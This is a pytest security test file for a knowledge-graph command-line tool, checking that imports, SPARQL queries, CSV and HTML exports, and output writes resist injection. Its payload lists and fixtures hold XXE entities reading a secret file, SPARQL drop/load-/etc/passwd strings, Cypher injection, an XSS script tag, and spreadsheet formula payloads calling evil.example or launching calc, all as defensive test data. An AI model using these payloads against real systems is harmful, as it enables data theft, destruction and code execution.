"""Injection: kg never runs what a file or a value says.

External XML entities and remote JSON-LD contexts are not fetched; SPARQL given to
`kg query sparql` cannot write or reach other servers; hostile ids and labels reach the
store only as data (bound terms, never pasted into query text); CSV output defuses
formula cells; the HTML report shows labels as text; `-o` writes only the path given."""
from __future__ import annotations

import csv
import http.server
import io
import json
import os
import threading

import pytest

from hostile_helpers import need_tool, tree_hash
from kg.store.workspace import Workspace

SECRET = "TOPSECRET-7f3a9c"


@pytest.fixture
def web():
    """A local HTTP server that records every request it gets."""
    hits: list[str] = []

    class H(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "application/ld+json")
            self.end_headers()
            self.wfile.write(b'{"@context": {"ex": "http://ex/"}}')

        do_POST = do_GET

        def log_message(self, *a):
            pass

    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{srv.server_address[1]}", hits
    srv.shutdown()


def _all_text(ws_path) -> str:
    with Workspace.open(ws_path) as ws:
        return ws.dump("nq").decode("utf-8")


@pytest.mark.parametrize("variant", ["file", "http", "parameter"])
def test_rdfxml_external_entities_not_resolved(hostile_ws, tmp_path, cli_run, web, variant):
    url, hits = web
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    decl = {"file": f'<!ENTITY xxe SYSTEM "file://{secret}">',
            "http": f'<!ENTITY xxe SYSTEM "{url}/xxe">',
            "parameter": f'<!ENTITY % p SYSTEM "{url}/dtd"> %p;'}[variant]
    f = tmp_path / "evil.rdf"
    f.write_text(f"""<?xml version="1.0"?>
<!DOCTYPE rdf:RDF [ {decl} ]>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://ex/">
  <rdf:Description rdf:about="http://ex/a"><ex:b>&xxe;</ex:b></rdf:Description>
</rdf:RDF>""", encoding="utf-8")
    before = tree_hash(hostile_ws)
    res = cli_run(["--data", hostile_ws, "--lang", "en", "import", f])
    assert hits == []
    assert SECRET not in res.stdout + res.stderr
    assert res.exit_code == 2  # the DTD's external entity is a syntax error to Oxigraph
    assert tree_hash(hostile_ws) == before
    assert SECRET not in _all_text(hostile_ws)


def test_jsonld_remote_context_not_fetched(hostile_ws, tmp_path, cli_run, web):
    url, hits = web
    for ctx in (f"{url}/context.jsonld", f"file://{tmp_path}/ctx.jsonld"):
        (tmp_path / "ctx.jsonld").write_text('{"@context": {"ex": "http://ex/"}}', encoding="utf-8")
        f = tmp_path / "remote.jsonld"
        f.write_text(json.dumps({"@context": ctx, "@id": "http://ex/a", "ex:b": "c"}), encoding="utf-8")
        res = cli_run(["--data", hostile_ws, "--lang", "en", "import", f])
        assert res.exit_code == 2
        assert "remote contexts" in res.stderr
    assert hits == []


# ----------------------------------------------------------------------- SPARQL guard
WRITES = [
    "INSERT DATA { GRAPH kgsrc:roadmap { kgid:x kgid:y kgid:z } }",
    "insert data { kgid:x kgid:y kgid:z }",
    "DELETE WHERE { ?s ?p ?o }",
    "DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
    "DROP ALL",
    "drop silent graph kgsrc:roadmap",
    "CLEAR DEFAULT",
    "CLEAR ALL",
    "LOAD <file:///etc/passwd>",
    "LOAD <file:///etc/passwd> INTO GRAPH kgsrc:roadmap",
    "CREATE GRAPH <http://x/g>",
    "COPY DEFAULT TO <http://x/g>",
    "MOVE kgsrc:roadmap TO <http://x/g>",
    "ADD kgsrc:roadmap TO <http://x/g>",
    # a subquery puts SELECT inside an update: the word guard lets it pass, the query
    # parser (the store only accepts queries here) and the read-only store refuse it
    "WITH kgsrc:roadmap DELETE { ?s ?p ?o } INSERT { ?s ?p 1 } WHERE { SELECT ?s ?p ?o WHERE { ?s ?p ?o } }",
    "DELETE { ?s ?p ?o } WHERE { { SELECT * WHERE { ?s ?p ?o } } }",
    "SELECT * WHERE { ?s ?p ?o } ; DROP ALL",
    "ASK { ?s ?p ?o } ; INSERT DATA { kgid:x kgid:y kgid:z }",
    "SELECT * WHERE { ?s ?p ?o }\nINSERT DATA { kgid:x kgid:y kgid:z }",
    "PREFIX select: <http://x/> INSERT DATA { select:a select:b select:c }",
    "# SELECT\nINSERT DATA { kgid:x kgid:y kgid:z }",
    "INSERT/**/DATA { kgid:x kgid:y kgid:z }",
    "INSERT\tDATA{kgid:x kgid:y kgid:z}",
    "DELETE\nWHERE{?s ?p ?o}",
]
READS = [
    ("SELECT ?x WHERE { BIND('INSERT DATA { <a> <b> <c> }' AS ?x) }", "INSERT DATA"),
    ('SELECT ?x WHERE { BIND("""DROP ALL ;\nCLEAR DEFAULT""" AS ?x) }', "DROP ALL"),
    ("# INSERT DATA { kgid:x kgid:y kgid:z }\nSELECT (COUNT(*) AS ?n) WHERE { ?s a kg:Initiative }", "2"),
    ("PREFIX insert: <http://x/insert#>\nSELECT ?n WHERE { BIND(insert:delete AS ?n) }", "http://x/insert#delete"),
    ("SELECT ?s WHERE { ?s ?p <http://x/DELETE> }", ""),
    ("ASK { ?s a kg:Initiative }", "true"),
    ("CONSTRUCT { ?s a kg:Initiative } WHERE { ?s a kg:Initiative }", "ki-plattform"),
]


@pytest.mark.parametrize("text", WRITES)
def test_query_sparql_cannot_write(hostile_ws, cli_run, text):
    before = tree_hash(hostile_ws)
    res = cli_run(["--data", hostile_ws, "--lang", "en", "query", "sparql", "-"], input=text)
    assert res.exit_code == 2, res.stdout
    assert res.stderr.startswith("kg: ") and "Traceback" not in res.stderr
    assert tree_hash(hostile_ws) == before
    with Workspace.open(hostile_ws) as ws:
        assert ws.verify() == []
        assert ws.count("?s a kg:Initiative") == 2


@pytest.mark.parametrize("text,shown", READS)
def test_query_sparql_reads_text_that_only_mentions_updates(hostile_ws, cli_run, text, shown):
    before = tree_hash(hostile_ws)
    res = cli_run(["--data", hostile_ws, "--lang", "en", "query", "sparql", "-", "--format", "json"], input=text)
    assert res.exit_code == 0, res.stderr
    assert shown in res.stdout
    assert tree_hash(hostile_ws) == before


def test_query_sparql_no_federated_service(hostile_ws, cli_run, web):
    url, hits = web
    for text in (f"SELECT * WHERE {{ SERVICE <{url}/sparql> {{ ?s ?p ?o }} }}",
                 f"SELECT * WHERE {{ ?i a kg:Initiative SERVICE SILENT <{url}/q?leak=1> {{ ?i ?p ?o }} }}",
                 f"select * where {{ service <{url}/x> {{ ?s ?p ?o }} }}"):
        res = cli_run(["--data", hostile_ws, "--lang", "en", "query", "sparql", "-"], input=text)
        assert res.exit_code == 2 and "SERVICE" in res.stderr
    assert hits == []


def test_store_query_never_runs_an_update(hostile_ws):
    """Below the guard: Workspace.query hands text to Oxigraph's query parser, which has
    no update forms, and a reader's store is opened read-only."""
    with Workspace.open(hostile_ws) as ws:
        for text in WRITES[:6]:
            with pytest.raises(Exception):
                ws.query(text)
        with pytest.raises((OSError, RuntimeError), match="read-write|read-only|[Rr]ead"):
            ws.store.update("INSERT DATA { <http://x/a> <http://x/b> <http://x/c> }")


# ----------------------------------------------------------------- hostile values
HOSTILE = [
    'x" } ; DROP ALL ; INSERT DATA { <http://x/a> <http://x/b> "c',
    "x' } . ?s ?p ?o } # ",
    "Robert'); MATCH (n) DETACH DELETE n //",
    "`) DETACH DELETE n //",
    "{{id}} ${HOME} %s %(x)s \\u0022 \\\" \\n",
    "<script>alert('kg')</script>",
    '=HYPERLINK("http://evil.example/?x="&A1,"klikk")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "Ærlig <b>fet</b> & \"sitert\" 'enkel' \t tab",
]


@pytest.fixture
def hostile_import(hostile_ws, tmp_path, cli_run):
    """The workspace after importing one row per hostile title (CSV, the csv module quotes)."""
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=";")
    w.writerow(["id", "tittel", "tittel_en", "status"])
    for i, h in enumerate(HOSTILE):
        w.writerow([f"h-{i}", h, h, "planlagt"])
    f = tmp_path / "fiendtlig.csv"
    f.write_text(buf.getvalue(), encoding="utf-8")
    res = cli_run(["--data", hostile_ws, "--lang", "en", "import", f, "--format", "json"])
    assert res.exit_code == 0, res.stdout + res.stderr
    assert json.loads(res.stdout)["files"][0]["accepted"] == len(HOSTILE)
    return hostile_ws


def test_hostile_labels_stored_verbatim_and_bound_as_data(hostile_import):
    from kg.ids import resolve
    with Workspace.open(hostile_import) as ws:
        assert ws.verify() == []
        assert ws.count("?s a kg:Initiative") == 2 + len(HOSTILE)
        for i, h in enumerate(HOSTILE):
            node = f"https://w3id.org/kommune-ki/id/fiendtlig/h-{i}"
            stored = {r["l"].value for r in ws.select("SELECT ?l WHERE { ?s skos:prefLabel ?l }", s=node)}
            assert stored <= {h.strip(), " ".join(h.split())} and stored, (h, stored)  # cells are trimmed
            h = stored.pop()
            rows = ws.select("SELECT DISTINCT ?s WHERE { ?s skos:prefLabel ?l FILTER(str(?l) = ?t) }", t=h)
            assert [r["s"].value for r in rows] == [f"https://w3id.org/kommune-ki/id/fiendtlig/h-{i}"], h
            assert resolve(ws, h) == f"https://w3id.org/kommune-ki/id/fiendtlig/h-{i}"
        # an IRI-looking binding that is not an IRI is refused, not pasted
        with pytest.raises(Exception):
            ws.select("SELECT ?o WHERE { ?s ?p ?o }", s="http://x/a> ?p ?o } DROP ALL #")


def test_hostile_ids_in_commands(hostile_import, cli_run):
    before = tree_hash(hostile_import)
    for h in HOSTILE + ["kgid:x> } DROP ALL", "\" } DELETE WHERE { ?s ?p ?o } #"]:
        for cmd in (["query", "show", "--", h], ["query", "find", "--", h], ["query", "deps", "--", h]):
            res = cli_run(["--data", hostile_import, "--lang", "en", *cmd])
            assert res.exit_code in (0, 1), (cmd, res.stdout, res.stderr)
            assert "Traceback" not in res.stdout + res.stderr
    assert tree_hash(hostile_import) == before
    with Workspace.open(hostile_import) as ws:
        assert ws.count("?s a kg:Initiative") == 2 + len(HOSTILE)


def test_csv_export_defuses_formula_cells(hostile_import, cli_run):
    res = cli_run(["--data", hostile_import, "--lang", "en", "query", "find", "h-", "--format", "csv"])
    assert res.exit_code == 0, res.stderr
    cells = [c for row in csv.reader(io.StringIO(res.stdout)) for c in row]
    risky = [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:].replace(".", "").isdigit())]
    assert risky == [], risky
    assert "'=HYPERLINK(" in res.stdout or "'=HYPERLINK(" in "".join(cells)
    from kg.exports import table
    from kg.results import Table, col
    out = table.render(Table([col("v", "v", "v")], [{"v": "=1+1"}, {"v": "-1.5"}, {"v": "@x"}, {"v": "\tcmd"}]), "csv", "en")
    assert out.splitlines()[1:] == ["'=1+1", "-1.5", "'@x", "'\tcmd"]


@pytest.mark.dot
def test_html_report_shows_labels_as_text(hostile_import, tmp_path, cli_run):
    need_tool("dot")
    out = tmp_path / "rapport"
    res = cli_run(["--data", hostile_import, "--lang", "en", "report", "-o", out])
    assert res.exit_code == 0, res.stderr
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "<script>alert('kg')</script>" not in html
    assert "<b>fet</b>" not in html
    assert "&lt;script&gt;alert(" in html or "\\u003cscript\\u003ealert(" in html
    assert html.count("<script") == html.count("</script>")


# ---------------------------------------------------------------------- -o safety
def test_output_never_follows_planted_symlinks(hostile_ws, tmp_path, cli_run):
    victim = tmp_path / "victim.txt"
    victim.write_text("untouched", encoding="utf-8")
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    target = out_dir / "graph.ttl"
    # the temp names an attacker could guess: plant symlinks to the victim under them
    for name in (".graph.ttl.tmp", "graph.ttl.tmp", ".graph.ttl.new", "graph.ttl~"):
        os.symlink(victim, out_dir / name)
    res = cli_run(["--data", hostile_ws, "export", "ttl", "-o", target])
    assert res.exit_code == 0, res.stderr
    assert victim.read_text(encoding="utf-8") == "untouched"
    assert target.is_file() and not target.is_symlink() and "ki-plattform" in target.read_text(encoding="utf-8")
    assert oct(target.stat().st_mode & 0o777) != oct(0o600)  # the umask's mode, not mkstemp's
    leftovers = sorted(p.name for p in out_dir.iterdir() if not p.is_symlink() and p.name != "graph.ttl")
    assert leftovers == []


def test_output_to_a_symlink_replaces_the_link_not_its_target(hostile_ws, tmp_path, cli_run):
    victim = tmp_path / "victim.txt"
    victim.write_text("untouched", encoding="utf-8")
    link = tmp_path / "graph.ttl"
    os.symlink(victim, link)
    res = cli_run(["--data", hostile_ws, "export", "ttl", "-o", link])
    assert res.exit_code == 0
    assert victim.read_text(encoding="utf-8") == "untouched"
    assert not link.is_symlink() and "ki-plattform" in link.read_text(encoding="utf-8")


def test_output_refuses_missing_folder_and_directories(hostile_ws, tmp_path, cli_run):
    res = cli_run(["--data", hostile_ws, "--lang", "en", "export", "ttl", "-o", tmp_path / "nope" / "g.ttl"])
    assert res.exit_code == 2 and "does not exist" in res.stderr
    assert not (tmp_path / "nope").exists()
    res = cli_run(["--data", hostile_ws, "--lang", "en", "export", "ttl", "-o", tmp_path])
    assert res.exit_code == 2 and "directory" in res.stderr


def test_failed_write_leaves_no_temp_file_and_keeps_old_output(tmp_path):
    from kg.cli.common import output_stream
    target = tmp_path / "a.txt"
    target.write_text("old", encoding="utf-8")
    with pytest.raises(RuntimeError):
        with output_stream(str(target)) as fh:
            fh.write(b"half")
            raise RuntimeError("disk full")
    assert target.read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.txt"]
